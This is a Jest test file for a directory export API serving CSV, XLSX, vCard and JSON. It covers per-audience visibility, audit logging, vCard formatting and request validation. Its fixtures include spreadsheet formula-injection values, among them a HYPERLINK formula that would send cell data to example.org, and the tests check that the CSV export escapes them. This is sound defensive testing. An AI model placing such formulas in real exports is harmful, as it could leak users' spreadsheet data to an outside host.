// The directory as files, from the outside: each audience gets what it may see, in forms that other software reads.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import Papa from 'papaparse';
import type { Client } from 'pg';
import readExcelFile from 'read-excel-file/node';
import { z } from 'zod';
import { AuthorityEntry, AuditEntry } from '#protocol';
import { openDirectoryApp, type DirectoryApp } from './support/directory-app.ts';
import { ALL, AUDIENCES, people } from './support/entry-writer.ts';
import { CALLER_HEADER, type Person } from './support/people.ts';

const FORMATS = ['csv', 'xlsx', 'vcf', 'json'] as const;
type Format = (typeof FORMATS)[number];

let directory: DirectoryApp;
let owner: Client;
let app: NestFastifyApplication;
let authority: string;

beforeAll(async () => {
  directory = await openDirectoryApp(Object.values(people));
  ({ app, owner } = directory);
  authority = (await owner.query(`SELECT authority FROM authority_name n JOIN authority a ON a.id = n.authority WHERE a.state = 'KE' AND n.name = 'Ethics and Anti-Corruption Commission'`)).rows[0].authority;
  for (const visibility of ALL) {
    await addContact('email', `${visibility}@authority.example`, visibility);
    await addName(`hiddenword${visibility}`, 'en', 'alias', visibility);
    await owner.query(
      `INSERT INTO designation (id, authority, function, functions, instrument, articles, languages, visibility, source) VALUES (gen_random_uuid(), $1, $2, '{mla}', 'UNCAC', '{46}', '{en}', $3, 'test')`,
      [authority, `function ${visibility}`, visibility],
    );
  }
  await addContact('telephone', '=HYPERLINK("https://example.org/?"&A1,"call")', 'public');
  await addContact('postal', '=1+1\n12 Street; Floor 3, Block \\B\\\nNairobi', 'public');
  await addContact('fax', '  @SUM(1+1)', 'public');
  await addName('مفوضية الأخلاقيات ومكافحة الفساد', 'ar', 'rendering', 'public');
  await addName('道德与反腐败委员会以及一个为了折行而写得非常非常非常非常长的名称', 'zh', 'rendering', 'public');
  await owner.query('SELECT refresh_authority_search($1)', [[authority]]);
}, 60_000);
afterAll(() => directory?.close());

async function addContact(kind: string, value: string, visibility: string): Promise<void> {
  await owner.query(`INSERT INTO contact (id, authority, kind, value, visibility, source) VALUES (gen_random_uuid(), $1, $2, $3, $4, 'test')`, [authority, kind, value, visibility]);
}
async function addName(name: string, language: string, kind: string, visibility: string): Promise<void> {
  await owner.query(`INSERT INTO authority_name (id, authority, name, language, kind, visibility, search, position, source) VALUES (gen_random_uuid(), $1, $2, $3, $4, $5, lower($2), 90, 'test')`, [authority, name, language, kind, visibility]);
}

async function download(format: string, query = 'state=KE', as: Person | null = null) {
  const answer = await app.inject({ method: 'GET', url: `/api/directory/export/${format}?${query}`, headers: as ? { [CALLER_HEADER]: as.officer } : {} });
  return { status: answer.statusCode, headers: answer.headers, bytes: answer.rawPayload, text: answer.payload };
}

/** Text of a file with everything that it holds: a workbook's cells, a card's unfolded lines. */
async function words(format: Format, as: Person | null, query?: string): Promise<string> {
  const { bytes, text } = await download(format, query, as);
  if (format === 'xlsx') return (await rowsOf(bytes)).flat().join('\n');
  return format === 'vcf' ? text.replaceAll('\r\n ', '') : text;
}

async function rowsOf(workbook: Buffer): Promise<unknown[][]> {
  const [sheet] = await readExcelFile(workbook);
  return sheet!.data;
}

/** The CSV's rows by column. */
async function table(query?: string, as: Person | null = null): Promise<Record<string, string>[]> {
  const { text } = await download('csv', query, as);
  const { data, errors } = Papa.parse<Record<string, string>>(text.replace(/^\ufeff/, ''), { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

async function exportsRecorded(): Promise<AuditEntry[]> {
  const { rows } = await owner.query<{ entry: Buffer }>('SELECT entry FROM audit_entry');
  return rows.map(({ entry }) => AuditEntry.parse(JSON.parse(entry.toString()))).filter(({ action }) => action === 'directory.export');
}

describe.each(FORMATS)('%s', (format) => {
  test.each(AUDIENCES)('%s gets what they may see', async (_, as, seen) => {
    const found = await words(format, as);
    for (const visibility of ALL) {
      for (const value of [`${visibility}@authority.example`, `hiddenword${visibility}`, `function ${visibility}`]) {
        // Designations stand in every form, aliases too.
        expect([value, found.includes(value)]).toEqual([value, seen.includes(visibility)]);
      }
    }
  });

  test('is found by nothing that the caller may not see', async () => {
    expect(await words(format, null, 'q=hiddenwordmembers')).not.toContain(authority);
    expect(await words(format, people.officer, 'q=hiddenwordmembers')).toContain('Ethics and Anti-Corruption Commission');
  });

  test('holds names in any script', async () => {
    const found = await words(format, null);
    expect(found).toContain('مفوضية الأخلاقيات ومكافحة الفساد');
    expect(found).toContain('道德与反腐败委员会以及一个为了折行而写得非常非常非常非常长的名称');
  });

  test('has its type, its name and no cache', async () => {
    const { status, headers } = await download(format);
    const type = { csv: /^text\/csv; charset=utf-8/, xlsx: /spreadsheetml\.sheet$/, vcf: /^text\/vcard; charset=utf-8$/, json: /^application\/json/ }[format];
    expect([status, headers['content-disposition'], headers['cache-control']]).toEqual([200, expect.stringMatching(new RegExp(`^attachment; filename="directory-\\d{4}-\\d\\d-\\d\\d\\.${format}"$`)), 'private, no-store']);
    expect(headers['content-type']).toMatch(type);
  });
});

test('an export with restricted values is in the audit log, another is not', async () => {
  const before = (await exportsRecorded()).length;
  await download('csv', 'state=KE', null);
  await download('csv', 'state=BR', people.officer);
  expect(await exportsRecorded()).toHaveLength(before);
  await download('json', 'state=KE', people.officer);
  const added = (await exportsRecorded()).slice(before);
  expect(added).toHaveLength(1);
  const entries = (await owner.query(`SELECT count(*)::int AS count FROM authority WHERE state = 'KE'`)).rows[0].count;
  expect(added[0]).toMatchObject({ actor: { officer: people.officer.officer }, outcome: 'done', details: { format: 'json', filter: 'state=KE', entries, restricted: 6 } });
});

test('the whole directory, each entry once, and the filters of the list', async () => {
  const all = await table('');
  const { rows } = await owner.query<{ id: string }>('SELECT id FROM authority');
  expect(all.map(({ id }) => id).toSorted()).toEqual(rows.map(({ id }) => id).toSorted());
  expect(new Set((await table('state=BR')).map(({ state }) => state))).toEqual(new Set(['BR']));
  expect((await table('q=bundeskrimnalamt')).map(({ name }) => name)).toContain('Federal Criminal Police Office');
  expect((await table('article=46')).every(({ uncac_articles: articles }) => articles!.split(', ').includes('46'))).toBe(true);
  expect(await table('member=true')).toEqual([]);
});

test('JSON is the entries that the pages show', async () => {
  const { items } = z.object({ items: z.array(AuthorityEntry) }).parse(JSON.parse((await download('json', 'state=KE', people.officer)).text));
  const page = await app.inject({ url: `/api/directory/authorities/${authority}`, headers: { [CALLER_HEADER]: people.officer.officer } });
  expect(items.find(({ id }) => id === authority)).toEqual(page.json());
});

describe('spreadsheets', () => {
  test('nothing in a CSV begins like a formula', async () => {
    const { bytes } = await download('csv');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    for (const row of [...(await table('')), ...(await table('state=KE', people.officer))]) {
      for (const value of Object.values(row)) expect(value).not.toMatch(/^\s*[=+\-@\t\r]/);
    }
    const row = (await table()).find(({ id }) => id === authority)!;
    expect([row['telephone'], row['postal'], row['fax']]).toEqual([
      expect.stringContaining(`'=HYPERLINK("https://example.org/?"&A1,"call")`), `'=1+1\n12 Street; Floor 3, Block \\B\\\nNairobi`, "'  @SUM(1+1)",
    ]);
  });

  test('restricted values stand in columns named after their audience', async () => {
    const row = (await table('state=KE', people.officer)).find(({ id }) => id === authority)!;
    expect([row['email'], row['email_government'], row['email_members']]).toEqual(ALL.map((visibility) => `${visibility}@authority.example`));
    expect(Object.keys((await table())[0]!)).not.toContain('email_members');
  });

  test('a workbook holds the same table as text', async () => {
    const [header = [], ...rows] = await rowsOf((await download('xlsx')).bytes);
    const csv = await table();
    expect(header).toEqual(Object.keys(csv[0]!));
    expect(rows.map(([id]) => id)).toEqual(csv.map(({ id }) => id));
    const row = rows.find(([id]) => id === authority)!;
    expect(row[header.indexOf('postal')]).toBe('=1+1\n12 Street; Floor 3, Block \\B\\\nNairobi');
  });
});

describe('vCard', () => {
  test('lines are folded at 75 octets and no character is parted', async () => {
    const { bytes } = await download('vcf', '');
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    expect(text.endsWith('END:VCARD\r\n')).toBe(true);
    const lines = text.split('\r\n').slice(0, -1);
    for (const line of lines) {
      expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
      expect(line).not.toMatch(/[\r\n\ufffd]/);
    }
    expect(lines.some((line) => line.startsWith(' '))).toBe(true);
    expect(lines.filter((line) => line === 'BEGIN:VCARD')).toHaveLength((await owner.query('SELECT FROM authority')).rowCount!);
  });

  test('every content line is of the form that RFC 6350, section 3.3 gives', async () => {
    for (const line of (await words('vcf', people.officer, '')).trimEnd().split('\r\n')) {
      expect(line).toMatch(/^(BEGIN|VERSION|KIND|UID|FN|ORG|NICKNAME|NOTE|ADR|TEL|EMAIL|URL|LANG|TZ|CATEGORIES|SOURCE|REV|END)(;[A-Z-]+=("[^"]*"|[^";:,]+))*:/);
    }
  });

  test('names in their languages, values escaped, audiences marked', async () => {
    const lines = (await words('vcf', people.officer)).split('\r\n');
    const start = lines.indexOf(`UID:urn:uuid:${authority}`);
    const card = lines.slice(start, lines.indexOf('END:VCARD', start));
    expect(card).toEqual(expect.arrayContaining([
      'FN;ALTID=1;LANGUAGE=en;PREF=1:Ethics and Anti-Corruption Commission',
      'FN;ALTID=1;LANGUAGE=ar:مفوضية الأخلاقيات ومكافحة الفساد',
      'ADR;TYPE=work;CC=KE:;;=1+1\\n12 Street\\; Floor 3\\, Block \\\\B\\\\\\nNairobi;;;;',
      'EMAIL;TYPE=work;X-AUDIENCE=members:members@authority.example',
      'EMAIL;TYPE=work:public@authority.example',
    ]));
    expect(card.find((line) => line.startsWith('REV:'))).toMatch(/^REV:\d{8}T\d{6}Z$/);
  });

  test('office hours with their time zone, each for its audience', async () => {
    const add = (zone: string, visibility: string, to: string) => owner.query(
      `INSERT INTO office_hours (id, authority, visibility, source, purpose, zone, weekly, holidays, language) VALUES (gen_random_uuid(), $1, $2, 'test', 'general', $3, $4, 'closed; 12 December, 1 June', 'en')`,
      [authority, visibility, zone, JSON.stringify([{ days: [1, 2, 3, 4, 5], from: '08:00', to }])],
    );
    await add('Africa/Nairobi', 'public', '17:00');
    await add('Africa/Nairobi', 'members', '22:00');
    await add('Indian/Mauritius', 'members', '23:00');
    const hours = async (as: Person | null) => (await words('vcf', as, `id=${authority}`)).split('\r\n').filter((line) => /^TZ|Office hours/.test(line));
    const open = ['TZ;VALUE=text:Africa/Nairobi', expect.stringMatching(/^NOTE;LANGUAGE=en:Office hours\\, general: .* 08:00–17:00 \(Africa\/Nairobi\)\\; closed\\; 12 December\\, 1 June$/)];
    expect(await hours(null)).toEqual(open);
    const seen = await hours(people.officer);
    expect(seen).toEqual(expect.arrayContaining([...open, 'TZ;VALUE=text;X-AUDIENCE=members:Indian/Mauritius', expect.stringMatching(/^NOTE;LANGUAGE=en;X-AUDIENCE=members:.*22:00/), expect.stringMatching(/^NOTE;LANGUAGE=en;X-AUDIENCE=members:.*23:00/)]));
    expect(seen).toHaveLength(5);
    await owner.query('DELETE FROM office_hours WHERE authority = $1', [authority]);
  });
});

test('one entry by its id, whatever else is asked for; no entry is not found', async () => {
  expect((await table(`id=${authority}&state=BR`)).map(({ id }) => id)).toEqual([authority]);
  expect((await download('json', 'id=00000000-0000-4000-8000-00000000dead')).status).toBe(404);
});

test.each(['pdf', 'csv?id=1', 'CSV', 'csv?state=xx', 'csv?article=72', 'csv?q='])('refuses %s', async (rest) => {
  const [format = '', query = ''] = rest.split('?');
  expect((await download(format, query)).status).toBe(400);
});
